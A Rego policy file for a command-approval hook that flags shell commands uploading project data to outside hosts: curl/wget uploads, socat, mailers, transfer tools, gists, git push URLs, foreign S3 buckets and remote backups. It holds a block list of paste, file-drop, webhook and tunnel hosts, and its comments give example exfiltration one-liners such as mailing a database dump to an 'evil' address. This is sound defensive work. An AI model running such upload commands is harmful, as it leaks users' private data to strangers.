package claude_rego.policies.exfiltration

import data.claude_rego.lib.settings
import data.claude_rego.lib.shell
import rego.v1

# ---------------------------------------------------------------- project data uploaded to a host that is not ours
#
# The rule (policies/README.md, exfiltration): a local file's contents asks when they leave
# (1) for a destination whose purpose is to hand files to strangers, whatever the file: an
#     anonymous file-drop or paste service (0x0.st, transfer.sh, termbin, …), a chat or bot
#     upload API (Telegram, Discord and Slack webhooks), a request catcher or a tunnel
#     address (webhook.site, *.ngrok.io), a literal public IP address; or
# (2) for any other host that is neither local/private nor a known upload service
#     (settings.trusted_upload_hosts: codecov, coveralls, GitHub's API, PyPI, …), when the
#     file is bulk project data: a database dump or file, a data export (CSV, Parquet,
#     JSONL), a log, an archive or git bundle/patch outside the build output (dist/,
#     build/, target/ …), a production config or terraform state, anything under .git/,
#     or a file the same command has just written (sqlite3 .dump > x && curl -F f=@x).
# A request body such as `-d @payload.json` to a named API, and a build artifact to an
# artifact server, stay allowed; local and private hosts (localhost, 10/8, 192.168/16,
# *.internal, *.local, one-label names) always pass.

_http_upload_clients := {"curl", "curlie", "wget", "http", "https", "xh", "xhs", "httpie", "ab"}

ask contains msg if {
	some ran in _http_upload_clients & data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	some word in _sent_files(seg)
	p := data.claude_rego.lib.paths.location(seg, word)
	_bulk_data(seg, p)
	host := _unknown_destination(seg)
	msg := sprintf("`%s` uploads `%s` (%s) to %s, which is neither a local host nor a known upload service (settings.trusted_upload_hosts). Approve only if that data may leave for that host.", [concat(" ", seg.argv), word, _bulk_kind(seg, p), host])
}

_drop_destinations(seg) := {h |
	some h in _dest_hosts(seg)
	_drop_destination(h)
	not _trusted_upload(h)
}


# the first destination that is not local, private nor trusted; a URL that is not literal
# ("$UPLOAD_URL") counts as unknown
_unknown_destination(seg) := host if {
	some host in _dest_hosts(seg)
	not _local_or_private(host)
	not _trusted_upload(host)
} else := "a host the command does not name" if {
	count(_dest_hosts(seg)) == 0
	_variable_url(seg)
}

_variable_url(seg) if {
	some a in shell.raw_args(seg)
	regex.match(`^["']?(\$|\(…\)$)`, a)
}

# ---------------------------------------------------------------- which files a client sends

# curl: -d/--data*/--json @FILE, -F name=@FILE / name=<FILE, -T/--upload-file FILE;
# wget --post-file/--body-file FILE; ab -p/-u FILE; httpie/xh items `name@FILE`, `@FILE`,
# `name=@FILE`, `name:=@FILE`
_sent_files(seg) := {f |
	shell.runs_any(seg, {"curl", "curlie"})
	some pair in _option_pairs(seg, {"-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "-F", "--form", "-T", "--upload-file"}, "dFT")
	f := _file_in(pair[0], pair[1])
} | {f |
	shell.runs(seg, "wget")
	some pair in _option_pairs(seg, {"--post-file", "--body-file"}, "")
	f := pair[1]
	not f in _stdin_markers
} | {f |
	shell.runs(seg, "ab")
	some pair in _option_pairs(seg, {"-p", "-u"}, "pu")
	f := pair[1]
} | {f |
	shell.runs_any(seg, {"http", "https", "xh", "xhs", "httpie"})
	some a in shell.args(seg)
	not startswith(a, "-")
	not contains(a, "://")
	parts := regex.find_all_string_submatch_n(`^[^=:@]*(?:=|:=)?@(.+)$`, a, 1)
	count(parts) == 1
	f := parts[0][1]
	not f in _stdin_markers
}

# [option, value] for `-X V`, `--opt V`, `--opt=V` and bundled short options (`-sF V`, `-F<V>`)
_option_pairs(seg, names, letters) := {[a, args[i + 1]] |
	args := shell.args(seg)
	some i, a in args
	a in names
} | {[n, substring(a, count(n) + 1, -1)] |
	some a in shell.args(seg)
	some n in names
	startswith(n, "--")
	startswith(a, concat("", [n, "="]))
} | {[concat("", ["-", m[1]]), args[i + 1]] |
	letters != ""
	args := shell.args(seg)
	some i, a in args
	not startswith(a, "--")
	m := regex.find_all_string_submatch_n(sprintf(`^-[A-Za-z0-9#:]*([%s])$`, [letters]), a, 1)[0]
	not a in names
} | {[concat("", ["-", m[1]]), m[2]] |
	letters != ""
	some a in shell.args(seg)
	not startswith(a, "--")
	m := regex.find_all_string_submatch_n(sprintf(`^-[A-Za-z0-9#:]*?([%s])(.+)$`, [letters]), a, 1)[0]
}

_file_in(opt, v) := f if {
	opt in {"-T", "--upload-file"}
	not v in _stdin_markers
	f := v
} else := f if {
	opt in {"-F", "--form"}
	parts := regex.find_all_string_submatch_n(`^[^=]*=[@<]([^;]+)`, v, 1)
	count(parts) == 1
	f := parts[0][1]
	not f in _stdin_markers
} else := f if {
	opt == "--data-urlencode"
	parts := regex.find_all_string_submatch_n(`^[^@=]*@(.+)$`, v, 1)
	count(parts) == 1
	f := parts[0][1]
	not f in _stdin_markers
} else := f if {
	not opt in {"-T", "--upload-file", "-F", "--form", "--data-urlencode"}
	startswith(v, "@")
	f := substring(v, 1, -1)
	not f in _stdin_markers
}

# ---------------------------------------------------------------- where it goes

# the hosts of the segment's URLs: the facts' network effects (hosts folded as a URL parser
# would) and the client's own words (`curl -T x 203.0.113.5:8000/`, `xh POST :3000/x`)
_dest_hosts(seg) := _request_hosts(seg) | {h |
	args := shell.args(seg)
	some i, a in args
	not startswith(a, "-")
	not startswith(a, "@")
	not _value_slot(args, i)
	h := _word_host(a)
} | {h |
	# curl, wget, ab: every operand is a URL (`curl -F f=@x 0x0.st`); httpie/xh: the first
	# operand after an optional METHOD
	args := shell.args(seg)
	some a in _url_operands(seg, args)
	not startswith(a, ":")
	m := regex.find_all_string_submatch_n(`^(?:[A-Za-z][A-Za-z0-9+.-]*://)?(?:[^/@?#\s]*@)?(\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*)(?::[0-9]*)?(?:[/?#].*)?$`, a, 1)[0]
	h := lower(m[1])
}

_url_operands(seg, args) := [a |
	shell.runs_any(seg, {"curl", "curlie", "wget", "ab"})
	some i, a in args
	not startswith(a, "-")
	not _value_slot(args, i)
] if {
	shell.runs_any(seg, {"curl", "curlie", "wget", "ab"})
} else := array.slice(ops, 0, 1) if {
	ops := [a |
		some i, a in args
		not startswith(a, "-")
		not _value_slot(args, i)
		not regex.match(`^[A-Z]+$`, a)
	]
} else := []

_value_slot(args, i) if {
	i > 0
	prev := args[i - 1]
	regex.match(`^-([A-Za-z0-9#:]*[dFTHoXuAebcKwEpPrxyzmt]|-(data[a-z-]*|json|form[a-z-]*|upload-file|header|output|request|user|user-agent|referer|cookie[a-z-]*|config|write-out|cert|key|cacert|proxy[a-z-]*|post-file|body-file|post-data|body-data|method|auth|session[a-z-]*|verify|output-document|directory-prefix|timeout|max-time|connect-timeout|retry[a-z-]*|resolve|connect-to|interface|range|unix-socket|variable|expand-[a-z-]*|url-query))$`, prev)
}

_word_host(a) := "localhost" if regex.match(`^:[0-9]*(/.*)?$`, a)

_word_host(a) := lower(m[2]) if {
	not startswith(a, ":")
	not regex.match(`^[A-Z]+$`, a)
	m := regex.find_all_string_submatch_n(`^(?:[A-Za-z][A-Za-z0-9+.-]*://)?(?:[^/@?#\s]*@)?(\[[0-9A-Fa-f:.]+\]|([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*))(?::[0-9]*)?(?:[/?#].*)?$`, a, 1)[0]
	_hostlike(a, m[2])
}

# a bare word is read as a host only when it says so: a scheme, a port, a path after a
# dotted name, an IP address or localhost (a file name like `dump.sql` is not a host)
_hostlike(a, _) if contains(a, "://")

_hostlike(_, h) if regex.match(`^[0-9]+(\.[0-9]+){3}$`, h)

_hostlike(_, h) if h == "localhost"

_hostlike(a, h) if {
	contains(h, ".")
	regex.match(`^[^/]+(:[0-9]+|/)`, a)
}

_local_or_private(host) if _local_request(host)

_local_or_private(host) if regex.match(`^(10|127)\.[0-9.]+$|^192\.168\.[0-9.]+$|^172\.(1[6-9]|2[0-9]|3[01])\.[0-9.]+$|^169\.254\.[0-9.]+$|^100\.(6[4-9]|[7-9][0-9]|1[01][0-9]|12[0-7])\.[0-9.]+$`, host)

_local_or_private(host) if regex.match(`^\[(::1|f[cd][0-9a-f]*:.*|fe80:.*)\]$`, host)

# one-label names (db, artifactory) and names under private-use suffixes
_local_or_private(host) if {
	not contains(host, ".")
	not startswith(host, "[")
}

_local_or_private(host) if regex.match(`\.(local|localhost|internal|lan|home\.arpa|intranet|corp|private|test|localdomain)$`, host)

_public_ip(host) if {
	regex.match(`^[0-9]+(\.[0-9]+){3}$|^\[[0-9a-f:.]+\]$`, host)
	not _local_or_private(host)
}

_drop_destination(host) if _public_ip(host)

_drop_destination(host) if host in _drop_hosts

_drop_destination(host) if {
	some d in _drop_hosts
	endswith(host, concat("", [".", d]))
}

_trusted_upload(host) if {
	some t in settings.value("trusted_upload_hosts")
	is_string(t)
	_registry_match(host, lower(t))
}

# services whose purpose is to publish what is sent to them to whoever has the link (file
# drops, pastebins), to deliver it into a chat (bot and webhook upload APIs), or to record
# it for someone else (request catchers, tunnel addresses); subdomains included
_drop_hosts := {
	"0x0.st", "transfer.sh", "file.io", "catbox.moe", "bashupload.com", "termbin.com", "paste.rs", "ix.io",
	"sprunge.us", "temp.sh", "oshi.at", "tmpfiles.org", "uguu.se", "pixeldrain.com", "gofile.io", "filebin.net",
	"keep.sh", "clbin.com", "x0.at", "envs.sh", "p.ip.fi", "ttm.sh", "pastebin.com", "hastebin.com", "dpaste.com",
	"dpaste.org", "paste.ee", "ghostbin.co", "rentry.co", "controlc.com", "justpaste.it", "privatebin.net",
	"paste.c-net.org", "anonfiles.com", "bayfiles.com", "ufile.io", "wetransfer.com", "we.tl", "mega.nz",
	"sendspace.com", "mediafire.com", "filetransfer.io", "send.vis.ee", "send.firefox.com", "tempfile.me",
	"api.telegram.org", "discord.com", "discordapp.com", "hooks.slack.com", "files.slack.com", "slack.com",
	"webhook.office.com", "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "requestcatcher.com",
	"beeceptor.com", "hookbin.com", "postb.in", "interact.sh", "oast.pro", "oast.live", "oast.site", "oast.online",
	"oast.fun", "oast.me", "burpcollaborator.net", "ngrok.io", "ngrok-free.app", "ngrok.app", "ngrok-free.dev",
	"trycloudflare.com", "loca.lt", "serveo.net", "localhost.run", "lhr.life", "pinggy.link", "bore.pub",
}

# ---------------------------------------------------------------- which files are bulk data

_bulk_data(seg, p) if {
	_project_or_temp(p)
	_bulk_kind(seg, p)
}

_bulk_kind(seg, p) := "a file this command has just written" if {
	_made_here(seg, p)
} else := "the repository's internals" if {
	contains(concat("", [lower(p.absolute), "/"]), "/.git/")
} else := "a database dump or data export" if {
	regex.match(`\.(sql|dump|pgdump|psql|db|db3|sqlite|sqlite3|mdb|accdb|bak|rdb|bson|csv|tsv|xls|xlsx|ods|parquet|avro|orc|feather|jsonl|ndjson|har|pcap|pcapng|mbox|eml)(\.(gz|bz2|xz|zst|zip|7z))?$`, lower(p.absolute))
} else := "a data directory's file" if {
	regex.match(`/(data|dumps?|exports?|backups?|db|database)/[^/]+$`, lower(p.absolute))
} else := "a log" if {
	regex.match(`(\.log(\.[0-9]+)?(\.gz)?$)|/logs?/[^/]+$`, lower(p.absolute))
} else := "terraform state" if {
	regex.match(`\.tfstate(\.backup)?$`, lower(p.absolute))
} else := "a production config" if {
	name := lower(regex.replace(p.absolute, `^.*/`, ""))
	regex.match(`(^|[._-])(prod|production|prd|live)([._-]|$)`, name)
	regex.match(`\.(ya?ml|json|toml|ini|conf|cfg|properties|xml|env|tfvars|php|py|js|rb)$`, name)
} else := "a git bundle (the repository's whole history)" if {
	endswith(lower(p.absolute), ".bundle")
} else := "a backup or dump archive" if {
	name := lower(regex.replace(p.absolute, `^.*/`, ""))
	regex.match(`\.(tar|tgz|tbz2?|txz|tzst|gz|bz2|xz|zst|zip|7z|rar)$`, name)
	regex.match(`(^|[._-])(backup|backups|bak|dump|dumps|export|exports|snapshot|db|database|data|source|src|repo|project|full|home|site)([._-]|$)`, name)
	not _build_output(p)
}

# build outputs are what a deploy uploads (dist/app.tar.gz to an artifact server)
_build_output(p) if {
	startswith(p.absolute, concat("", [input.facts.project_dir, "/"]))
	rel := trim_prefix(p.absolute, input.facts.project_dir)
	regex.match(`^/(.*/)?(dist|build|target|out|release|releases|artifacts|pkg|bin|_build|\.build|coverage|wheelhouse)/`, rel)
}

# a file written by another segment of the same command: a redirect target, or an output
# of an archiver or a dump tool (git archive -o, tar czf, zip, pg_dump -f, git bundle create)
_made_here(seg, p) if {
	some q in input.facts.paths
	q.segment != seg.id
	q.absolute == p.absolute
	_written_by(q)
}

_written_by(q) if q.field in {">", ">>", ">|", "&>", "&>>", "1>", "2>"}

_written_by(q) if {
	q.field in {"argv", "argv_embedded"}
	producer := shell.by_id(q.segment)
	shell.runs_any(producer, _file_producers)
}

_file_producers := {
	"tar", "bsdtar", "zip", "7z", "7za", "rar", "gzip", "bzip2", "xz", "zstd", "pigz", "cp", "mv", "install",
	"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump", "mongoexport", "sqlite3", "redis-cli",
	"split", "gpg", "openssl", "base64", "tee", "dd", "git", "hg", "svn", "jar", "cpio",
}

# ---------------------------------------------------------------- other routes out

# socat FILE:x TCP:host:port (and OPEN:/GOPEN:/EXEC:cat): a local file streamed to a host
ask contains msg if {
	"socat" in data.claude_rego.lib.shell.names
	some seg in shell.running({"socat"})
	some src in shell.args(seg)
	regex.match(`(?i)^(file|open|gopen|readline|exec|system):`, src)
	some dst in shell.args(seg)
	parts := regex.find_all_string_submatch_n(`(?i)^(tcp[46]?|udp[46]?|openssl|ssl|sctp|socks4a?|socks5|proxy|dccp):([^:,]+)`, dst, 1)
	count(parts) == 1
	not _local_or_private(lower(parts[0][2]))
	msg := sprintf("`%s` streams `%s` to %s. Approve only if that data may leave the machine.", [concat(" ", seg.argv), src, parts[0][2]])
}

# mail clients sending a file (an attachment, or a message body read from a file or a pipe)
# to an address that is not local: mail -s x a@evil < dump.sql, mutt -a x.csv -- a@b,
# git format-patch --stdout | mail …; sendmail -t reads its recipients from the message
_mailers := {"mail", "mailx", "s-nail", "bsd-mailx", "heirloom-mailx", "nail", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp", "swaks", "mpack", "mailsend", "mailsend-go", "sendemail", "sendEmail", "himalaya"}

ask contains msg if {
	some ran in _mailers & data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	_mail_carries_data(seg)
	_mail_leaves(seg)
	msg := sprintf("`%s` mails local data (an attachment or a message read from a file or another command) to an address outside this machine. Approve only if that data may leave.", [concat(" ", seg.argv)])
}

_mail_carries_data(seg) if {
	some r in seg.redirects
	r.op == "<"
	r.target != "/dev/null"
}

# a message piped in from a command that is not a literal text (echo "done" | mail …)
_mail_carries_data(seg) if {
	some producer in data.claude_rego.lib.shell.segments
	shell.upstream(producer, seg)
	not shell.runs_any(producer, {"echo", "printf", "true", "date", "hostname", "uptime"})
}

_mail_carries_data(seg) if {
	some a in shell.args(seg)
	regex.match(`^(-a|-A|--attach|--attach-body|--attach-attachment|-attach|--attachment|--body|--data|-attach-file)(=.*)?$|^-a.+`, a)
}

_mail_carries_data(seg) if shell.runs(seg, "mpack")

_mail_leaves(seg) if {
	some a in shell.args(seg)
	some addr in split(a, ",")
	parts := regex.find_all_string_submatch_n(`^[^@\s<>"'=]+@([A-Za-z0-9.-]+)>?$`, addr, 1)
	count(parts) == 1
	not _local_or_private(lower(parts[0][1]))
}

_mail_leaves(seg) if {
	shell.runs_any(seg, {"sendmail", "msmtp", "ssmtp"})
	shell.has_arg(seg, {"-t", "--read-recipients"})
}

# peer-to-peer and one-shot transfer tools hand a file to whoever holds a code or a link
_peer_transfer := {"croc": {"send"}, "wormhole": {"send"}, "magic-wormhole": {"send"}, "wormhole-william": {"send"}, "ffsend": {"upload", "up", "u"}, "portal": {"send"}, "sendme": {"send", "provide"}, "transfer": {"send", "upload"}}

ask contains msg if {
	some ran, verbs in _peer_transfer
	ran in data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	some w in array.slice(shell.operands(seg), 0, 1)
	w in verbs
	msg := sprintf("`%s` hands local files to whoever holds the transfer code or link (a peer-to-peer or one-shot transfer service). Approve only if they may leave the machine.", [concat(" ", seg.argv)])
}

ask contains msg if {
	some ran in {"onionshare", "onionshare-cli"} & data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	not _version_or_help_only(seg)
	msg := sprintf("`%s` publishes local files through an onion service. Approve only if they may leave the machine.", [concat(" ", seg.argv)])
}

# a push URL that differs from the fetch URL: `git remote -v`'s fetch line stays the same
# while every later push goes elsewhere (git remote set-url --push, remote.X.pushurl,
# url.X.pushInsteadOf)
ask contains msg if {
	"git" in data.claude_rego.lib.shell.names
	some seg in shell.running({"git"})
	args := shell.args(seg)
	some i, a in args
	a == "set-url"
	"remote" in array.slice(args, 0, i)
	"--push" in args
	msg := sprintf("`%s` sends this repository's pushes to another URL while fetches keep the old one. Approve only if that destination is expected.", [concat(" ", seg.argv)])
}

ask contains msg if {
	"git" in data.claude_rego.lib.shell.names
	some seg in shell.running({"git"})
	args := shell.args(seg)
	some i, a in args
	regex.match(`(?i)^(remote\.[^\s]+\.pushurl|url\..+\.pushinsteadof)$`, a)
	"config" in array.slice(args, 0, i)
	count(args) > i + 1
	not startswith(args[i + 1], "-")
	msg := sprintf("`%s` sends this repository's pushes to another URL while fetches keep the old one. Approve only if that destination is expected.", [concat(" ", seg.argv)])
}

# gh gist create publishes files (a secret gist is readable by anyone with its URL)
ask contains msg if {
	"gh" in data.claude_rego.lib.shell.names
	some seg in shell.running({"gh"})
	ops := shell.operands(seg)
	count(ops) >= 2
	ops[0] == "gist"
	ops[1] in {"create", "new", "edit"}
	not _version_or_help_only(seg)
	msg := sprintf("`%s` publishes local content as a gist, readable by anyone with its URL. Approve only if it may be published.", [concat(" ", seg.argv)])
}

# bulk project data (a dump, an export, a log, an archive outside the build output) uploaded
# to a repository named on the command line (-R/--repo): the hook cannot tell whether
# OWNER/REPO is this project's; without -R gh targets the current repository and passes,
# and so does a markdown body or a build asset (a fork's `gh pr create -R upstream/x
# --body-file pr.md`, `gh release upload -R acme/app v1 dist/app.tgz`)
ask contains msg if {
	"gh" in data.claude_rego.lib.shell.names
	some seg in shell.running({"gh"})
	repo := shell.option_value(seg, {"-R", "--repo"})
	some word in _gh_files(seg)
	p := data.claude_rego.lib.paths.location(seg, word)
	_bulk_data(seg, p)
	msg := sprintf("`%s` uploads `%s` (%s) to %s, a repository named on the command line rather than this project's. Approve only if %s is yours.", [concat(" ", seg.argv), word, _bulk_kind(seg, p), repo, repo])
}

_gh_files(seg) := {w |
	args := shell.args(seg)
	ops := [a | some i, a in args; not startswith(a, "-"); not _gh_value(args, i)]
	ops[0] == "release"
	ops[1] == "upload"
	some w in array.slice(ops, 3, count(ops))
} | {v |
	v := shell.option_value(seg, {"--body-file", "-F", "--notes-file"})
	v != "-"
}

_gh_value(args, i) if {
	i > 0
	args[i - 1] in {"-R", "--repo", "-t", "--title", "-b", "--body", "-F", "--body-file", "--notes-file", "-n", "--notes"}
}

# gh api with a file as a field or as the body (a GraphQL query read from a file, or a
# request body that is not bulk data, passes)
ask contains msg if {
	"gh" in data.claude_rego.lib.shell.names
	some seg in shell.running({"gh"})
	ops := shell.operands(seg)
	ops[0] == "api"
	some pair in _option_pairs(seg, {"-F", "--field", "--input"}, "F")
	word := _gh_api_file(pair[0], pair[1])
	p := data.claude_rego.lib.paths.location(seg, word)
	_bulk_data(seg, p)
	msg := sprintf("`%s` sends `%s` (%s) through the GitHub API. Approve only if it may leave for that endpoint.", [concat(" ", seg.argv), word, _bulk_kind(seg, p)])
}

_gh_api_file("--input", v) := v if not v in _stdin_markers

_gh_api_file(opt, v) := f if {
	opt != "--input"
	parts := regex.find_all_string_submatch_n(`^[^=]+=@(.+)$`, v, 1)
	count(parts) == 1
	f := parts[0][1]
	not f in _stdin_markers
}

# ---------------------------------------------------------------- object storage and backups that are not the account's own

# aws s3 cp/sync/mv of a local file to a bucket behind a foreign endpoint (--endpoint-url of a
# host that is neither AWS, a well-known object store, nor local) or written anonymously
# (--no-sign-request: a bucket anyone may write to is not the account's)
ask contains msg if {
	"aws" in data.claude_rego.lib.shell.names
	some seg in shell.running({"aws"})
	args := shell.args(seg)
	some k, verb in args
	verb in {"cp", "sync", "mv"}
	k > 0
	args[k - 1] == "s3"
	ops := _aws_operands(seg)
	count(ops) >= 2
	startswith(lower(ops[count(ops) - 1]), "s3://")
	some word in array.slice(ops, 0, count(ops) - 1)
	not _remote(word)
	why := _foreign_s3(seg)
	msg := sprintf("`%s` copies `%s` to a bucket %s. Approve only if that bucket is yours.", [concat(" ", seg.argv), word, why])
}

_foreign_s3(seg) := sprintf("behind the endpoint %s, which is not AWS or a known object store", [host]) if {
	url := shell.option_value(seg, {"--endpoint-url", "--endpoint"})
	host := _word_host(url)
	not _local_or_private(host)
	not _object_store(host)
} else := "written without credentials (--no-sign-request): a bucket anyone can write to" if {
	shell.has_arg(seg, {"--no-sign-request"})
}

# operands of `aws s3 cp|sync|mv`, without the values of --options (--endpoint-url URL, --region X)
_aws_operands(seg) := [a |
	args := shell.args(seg)
	some i, a in args
	not startswith(a, "-")
	not a in {"s3", "cp", "sync", "mv"}
	not _aws_option_value(args, i)
]

_aws_option_value(args, i) if {
	i > 0
	startswith(args[i - 1], "--")
	not contains(args[i - 1], "=")
	not args[i - 1] in {"--recursive", "--no-sign-request", "--dryrun", "--quiet", "--no-progress", "--follow-symlinks", "--no-follow-symlinks", "--only-show-errors", "--delete", "--exact-timestamps", "--size-only", "--no-verify-ssl", "--no-guess-mime-type", "--force-glacier-transfer", "--ignore-glacier-warnings", "--debug", "--no-paginate"}
}

_object_store(host) if host in _object_stores

_object_store(host) if {
	some d in _object_stores
	endswith(host, concat("", [".", d]))
}

_object_stores := {"amazonaws.com", "r2.cloudflarestorage.com", "digitaloceanspaces.com", "backblazeb2.com", "wasabisys.com", "storage.googleapis.com", "linodeobjects.com", "scw.cloud", "oraclecloud.com", "cloud-object-storage.appdomain.cloud"}

# backup tools writing the project to a repository on a remote host reached directly
# (restic -r sftp:/rest:, borg user@host:/ssh://, duplicity sftp://…): the whole tree,
# .env files and history included, leaves for that host
ask contains msg if {
	"restic" in data.claude_rego.lib.shell.names
	some seg in shell.running({"restic"})
	"backup" in shell.operands(seg)
	repo := _restic_repo(seg)
	host := _repo_host(repo)
	not _local_or_private(host)
	msg := sprintf("`%s` backs local files up to a repository on %s. Approve only if that host is yours.", [concat(" ", seg.argv), host])
}

_restic_repo(seg) := v if {
	v := shell.option_value(seg, {"-r", "--repo", "--repository"})
} else := v if {
	v := object.get(object.get(seg, "assignments", {}), "RESTIC_REPOSITORY", null)
	is_string(v)
}

ask contains msg if {
	some ran in {"borg", "borgbackup"} & data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	"create" in shell.operands(seg)
	some word in shell.operands(seg)
	contains(word, "::")
	host := _repo_host(word)
	not _local_or_private(host)
	msg := sprintf("`%s` backs local files up to a repository on %s. Approve only if that host is yours.", [concat(" ", seg.argv), host])
}

ask contains msg if {
	some ran in {"duplicity", "duply"} & data.claude_rego.lib.shell.names
	some seg in shell.running({ran})
	ops := shell.operands(seg)
	count(ops) >= 2
	host := _repo_host(ops[count(ops) - 1])
	not _local_or_private(host)
	msg := sprintf("`%s` backs local files up to %s. Approve only if that host is yours.", [concat(" ", seg.argv), host])
}

# sftp:user@host:/path, rest:https://host/x, ssh://user@host/x, user@host:path::archive
_repo_host(repo) := lower(m[1]) if {
	m := regex.find_all_string_submatch_n(`^(?:sftp:|rest:|rclone:)?(?:[a-z+]+://)?(?:[^@/:]+@)?([A-Za-z0-9.-]+|\[[0-9A-Fa-f:]+\])(?::[0-9]+)?[:/]`, repo, 1)[0]
	regex.match(`^(sftp:|rest:|[a-z+]+://|[^@/:]+@[^/:]+:)`, repo)
	not regex.match(`^(file|s3|b2|gs|azure|swift)(:|://)`, repo)
}

# rclone to a remote given inline (`:sftp,host=…:`, `:http,url=…:`, `:webdav,url=…:`): a
# destination the user's rclone config does not hold
ask contains msg if {
	"rclone" in data.claude_rego.lib.shell.names
	some seg in shell.running({"rclone"})
	ops := _copy_operands(seg)
	count(ops) >= 2
	dest := ops[count(ops) - 1]
	regex.match(`^:[a-z0-9]+[,:]`, dest)
	some word in array.slice(ops, 0, count(ops) - 1)
	not startswith(word, ":")
	msg := sprintf("`%s` copies `%s` to a remote given on the command line (`%s`), not one of the configured remotes. Approve only if that destination is yours.", [concat(" ", seg.argv), word, dest])
}

ask contains msg if some msg in _drop_uploads

_drop_uploads contains msg if {
	some seg in shell.running(_http_upload_clients)
	some word in _sent_files(seg)
	some host in _drop_destinations(seg)
	msg := sprintf("`%s` uploads `%s` to %s, a file-drop, paste, chat-upload or bare-IP destination that hands files to whoever holds the link. Approve only if this file may be published.", [concat(" ", seg.argv), word, host])
}
